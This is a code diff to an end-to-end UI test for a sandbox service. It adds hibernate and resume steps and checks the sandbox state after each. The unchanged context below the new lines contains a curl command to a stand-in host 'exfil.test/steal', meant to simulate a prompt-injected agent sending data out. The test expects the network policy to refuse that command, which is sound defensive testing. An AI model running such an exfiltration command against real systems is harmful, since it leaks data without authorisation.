@@ -111,6 +111,17 @@ def test_sign_in_watch_a_sandbox_appear_and_its_command_live(service: Service) -
             page.get_by_role("button", name="Run").click()
             page.get_by_text("typed-in-the-42-ui").wait_for()
 
+            # Hibernated from the page (nothing of it left in the kernel), then woken: both in
+            # the timeline; its network policy holds after the wake (the refusal below).
+            page.get_by_role("button", name="Hibernate").click()
+            page.get_by_role("status").get_by_text(re.compile("^Hibernated")).wait_for()
+            page.locator('li[data-type="sandbox.hibernated"]').wait_for()
+            assert sandbox.get_info().state == "hibernated"
+            page.get_by_role("button", name="Resume").click()
+            page.get_by_role("status").get_by_text("Resumed.").wait_for()
+            page.locator('li[data-type="sandbox.resumed"]').wait_for()
+            assert sandbox.get_info().state == "running"
+
             # A prompt-injected agent tries to send data out: refused, with the rule.
             tried = sandbox.commands.run("curl -sS -m 10 --noproxy '' -o /dev/null -w "
                                          "'%{http_code}' http://exfil.test/steal", timeout=30)
